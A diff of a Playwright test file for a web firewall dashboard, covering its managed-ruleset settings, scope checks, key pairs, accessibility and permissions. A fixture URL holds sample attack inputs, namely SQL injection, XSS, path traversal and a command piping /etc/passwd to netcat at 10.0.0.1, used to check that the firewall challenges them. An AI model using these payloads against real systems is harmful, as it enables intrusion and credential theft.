@@ -1,23 +1,15 @@
 import assert from 'node:assert/strict'
-import { after, before, test } from 'node:test'
 import type { Page } from 'playwright-core'
+import { eventually } from '../support/eventually.ts'
 import { api } from '../support/sluice.ts'
-import { axeViolations, type DashboardTest, looks, openDashboard, screenshot, skip } from './support.ts'
+import { answersWith } from './rules-support.ts'
+import { axeViolations, type DashboardTest, flows, looks, screenshot } from './support.ts'
 
 const phase = 'http_request_firewall_managed'
 const attack = `/search?q=${encodeURIComponent(`1' or '1'='1' union select password from users--`)}&x=${encodeURIComponent('<script>alert(1)</script>')}&f=${encodeURIComponent('../../../../etc/passwd')}&c=${encodeURIComponent(';cat /etc/passwd|nc 10.0.0.1 80')}`
 
-let dashboard: DashboardTest | undefined
-before(async () => {
-  if (!skip) dashboard = await openDashboard()
-})
-after(() => dashboard?.close())
-
-const test_ = (name: string, body: (dashboard: DashboardTest) => Promise<void>) =>
-  test(name, { skip }, async t => {
-    if (dashboard === undefined) return t.skip('no Chromium starts here')
-    await body(dashboard)
-  })
+/** The settings of the managed ruleset. */
+const flow = flows()
 
 async function deployed({ sluice, zoneId }: DashboardTest) {
   const { result } = await api(sluice, 'GET', `/zones/${zoneId}/rulesets/phases/${phase}/entrypoint`)
@@ -30,19 +22,23 @@ const choose = (page: Page, group: string, label: string) =>
 const draftLines = (page: Page) =>
   page.getByRole('list', { name: 'What will be different' }).getByRole('listitem').allTextContents()
 
-test_('by hand: PL2, High and Managed Challenge are deployed, and an attack is challenged', async it => {
+flow('by hand: PL2, High and Managed Challenge are deployed, and an attack is challenged', async it => {
   const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
   await page.getByRole('button', { name: 'Set it up' }).click()
-  assert.deepEqual((await draftLines(page)).slice(0, 2), [
-    'The ruleset is deployed for all requests.',
-    'Paranoia level: PL4. Threshold: Medium (40). Action: Block.',
-  ])
+  await eventually(async () =>
+    assert.deepEqual((await draftLines(page)).slice(0, 2), [
+      'The ruleset is deployed for all requests.',
+      'Paranoia level: PL4. Threshold: Medium (40). Action: Block.',
+    ]),
+  )
   await choose(page, 'Paranoia level', 'PL2')
   await choose(page, 'Score threshold', 'High 25')
   await page.getByRole('radio', { name: 'Managed Challenge' }).check()
-  assert.equal(
-    (await draftLines(page))[1],
-    'Paranoia level: PL2. Threshold: High (25). Action: Managed Challenge.',
+  await eventually(async () =>
+    assert.equal(
+      (await draftLines(page))[1],
+      'Paranoia level: PL2. Threshold: High (25). Action: Managed Challenge.',
+    ),
   )
   await page.getByText('Checked: the API accepts it').waitFor()
   assert.equal((await it.visit(attack)).status, 200)
@@ -62,23 +58,11 @@ test_('by hand: PL2, High and Managed Challenge are deployed, and an attack is c
     ],
     rules: [{ id: '6179ae15870a4bb7b2d480d4843b323c', score_threshold: 25, action: 'managed_challenge' }],
   })
-  await untilChallenged(it)
-  await page.context().close()
+  const challenged = await answersWith(it, attack, 403)
+  assert.equal(challenged.headers.get('cf-mitigated'), 'challenge')
 })
 
-async function untilChallenged(it: DashboardTest): Promise<void> {
-  for (let tries = 0; tries < 50; tries++) {
-    const answer = await it.visit(attack)
-    if (answer.status === 403) {
-      assert.equal(answer.headers.get('cf-mitigated'), 'challenge')
-      return
-    }
-    await new Promise(resolve => setTimeout(resolve, 100))
-  }
-  assert.fail('the attack is not challenged')
-}
-
-test_('a scope is checked by the API while it is typed, and the fault is shown with its place', async it => {
+flow('a scope is checked by the API while it is typed, and the fault is shown with its place', async it => {
   const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
   await page.getByRole('radio', { name: 'Requests that match an expression' }).check()
   await page.getByRole('button', { name: 'Edit expression' }).click()
@@ -86,18 +70,36 @@ test_('a scope is checked by the API while it is typed, and the fault is shown w
   await field.fill('http.request.uri.pat eq "/"')
   await page.getByText('The API would refuse this').waitFor()
   const refusal = page.getByRole('region', { name: 'Draft' }).getByRole('alert')
-  assert.match((await refusal.textContent()) ?? '', /Filter parsing error \(1:1\)/)
+  await eventually(async () =>
+    assert.match((await refusal.textContent()) ?? '', /Filter parsing error \(1:1\)/),
+  )
   await field.fill('http.request.uri.path ne "/health"')
   await page.getByText('Checked: the API accepts it').waitFor()
-  assert.deepEqual(await draftLines(page), [
-    'Scope: all requests → requests where http.request.uri.path ne "/health".',
-  ])
+  await eventually(async () =>
+    assert.deepEqual(await draftLines(page), [
+      'Scope: all requests → requests where http.request.uri.path ne "/health".',
+    ]),
+  )
   await page.getByRole('button', { name: 'Discard' }).click()
-  assert.ok(await page.getByRole('radio', { name: 'All requests' }).isChecked())
-  await page.context().close()
+  await eventually(async () => assert.ok(await page.getByRole('radio', { name: 'All requests' }).isChecked()))
 })
 
-test_('a change that somebody else made meanwhile is shown, and not overwritten', async it => {
+flow('what replaces a text is let in by the security policy, however quick it is', async it => {
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
+  await page.getByRole('radio', { name: 'Requests that match an expression' }).check()
+  await page.getByRole('button', { name: 'Edit expression' }).click()
+  const field = page.getByRole('textbox', { name: 'Expression' })
+  await field.fill('http.host eq "a"')
+  await field.locator('span', { hasText: 'http.host' }).first().waitFor()
+  // As if it was typed before the editor learnt of the selection.
+  await page.evaluate(() =>
+    addEventListener('selectionchange', event => event.stopImmediatePropagation(), true),
+  )
+  await field.fill('http.request.uri.path eq "/b"')
+  await page.getByText('requests where http.request.uri.path eq "/b".').waitFor()
+})
+
+flow('a change that somebody else made meanwhile is shown, and not overwritten', async it => {
   const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
   await choose(page, 'Score threshold', 'Low 60')
   const { id, rules } = await deployed(it)
@@ -118,18 +120,21 @@ test_('a change that somebody else made meanwhile is shown, and not overwritten'
   assert.deepEqual(after.action_parameters.overrides.rules, [
     { id: '6179ae15870a4bb7b2d480d4843b323c', score_threshold: 60, action: 'log' },
   ])
-  await page.context().close()
 })
 
-test_('keys of payload logging are made in the browser, and the private one is shown once', async it => {
+flow('keys of payload logging are made in the browser, and the private one is shown once', async it => {
   const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
   await page.getByRole('button', { name: 'Make a key pair' }).click()
   const dialog = page.getByRole('dialog')
   const keys = JSON.parse((await dialog.locator('pre').textContent()) ?? '')
   assert.deepEqual(Object.keys(keys), ['private_key', 'public_key'])
-  assert.equal(await dialog.getByRole('button', { name: 'Use the public key' }).isEnabled(), false)
+  await eventually(async () =>
+    assert.equal(await dialog.getByRole('button', { name: 'Use the public key' }).isEnabled(), false),
+  )
   await dialog.getByRole('button', { name: 'Copy both keys' }).click()
-  assert.deepEqual(JSON.parse(String(await page.evaluate('navigator.clipboard.readText()'))), keys)
+  await eventually(async () =>
+    assert.deepEqual(JSON.parse(String(await page.evaluate('navigator.clipboard.readText()'))), keys),
+  )
   await dialog.getByRole('checkbox', { name: 'I have kept the private key' }).check()
   await dialog.getByRole('button', { name: 'Use the public key' }).click()
   await dialog.waitFor({ state: 'detached' })
@@ -139,25 +144,26 @@ test_('keys of payload logging are made in the browser, and the private one is s
   await page.getByText('in force at every edge').waitFor()
   const [rule] = (await deployed(it)).rules
   assert.deepEqual(rule.action_parameters.matched_data, { public_key: keys.public_key })
-  await page.context().close()
 })
 
-test_('the page is good to use for everybody, in light and dark and on a narrow screen', async it => {
+flow('the page is good to use for everybody, in light and dark and on a narrow screen', async it => {
   for (const look of looks) {
     const page = await it.page({ path: `/zones/${it.zoneId}/managed`, ...look })
     await choose(page, 'Paranoia level', 'PL3')
     await page.getByText('Checked: the API accepts it').waitFor()
     assert.deepEqual(await axeViolations(page), [], look.name)
-    assert.ok(
-      await page.evaluate('document.documentElement.scrollWidth <= innerWidth'),
-      `${look.name}: nothing is cut off at the side`,
+    await eventually(async () =>
+      assert.ok(
+        await page.evaluate('document.documentElement.scrollWidth <= innerWidth'),
+        `${look.name}: nothing is cut off at the side`,
+      ),
     )
     await screenshot(page, `managed-${look.name}`)
     await page.context().close()
   }
 })
 
-test_('a token that may only read sees everything, changes nothing, and is told why', async it => {
+flow('a token that may only read sees everything, changes nothing, and is told why', async it => {
   const groups = (await api(it.sluice, 'GET', `/accounts/${it.accountId}/tokens/permission_groups`)).result
   const idOf = (name: string) => groups.find((group: { name: string }) => group.name === name).id
   const { result } = await api(it.sluice, 'POST', '/user/tokens', {
@@ -172,19 +178,21 @@ test_('a token that may only read sees everything, changes nothing, and is told 
   })
   const page = await it.page({ path: `/zones/${it.zoneId}/managed`, token: result.value })
   await page.getByText('Your token lacks “Zone WAF Write” on this zone.').waitFor()
-  assert.equal(await page.getByRole('radio', { name: 'Block' }).isDisabled(), true)
-  assert.equal(await page.getByRole('button', { name: 'Remove' }).isDisabled(), true)
-  await page.context().close()
+  await eventually(async () =>
+    assert.equal(await page.getByRole('radio', { name: 'Block' }).isDisabled(), true),
+  )
+  await eventually(async () =>
+    assert.equal(await page.getByRole('button', { name: 'Remove' }).isDisabled(), true),
+  )
 })
 
-test_('the ruleset is removed after a question', async it => {
+flow('the ruleset is removed after a question', async it => {
   const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
   await page.getByRole('button', { name: 'Remove' }).click()
   const draft = page.getByRole('region', { name: 'Draft' })
   await draft.getByRole('button', { name: 'Remove' }).click()
   await page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click()
   await page.getByText('The ruleset is removed: version').first().waitFor()
-  assert.deepEqual((await deployed(it)).rules, [])
+  await eventually(async () => assert.deepEqual((await deployed(it)).rules, []))
   await page.getByRole('button', { name: 'Set it up' }).waitFor()
-  await page.context().close()
 })
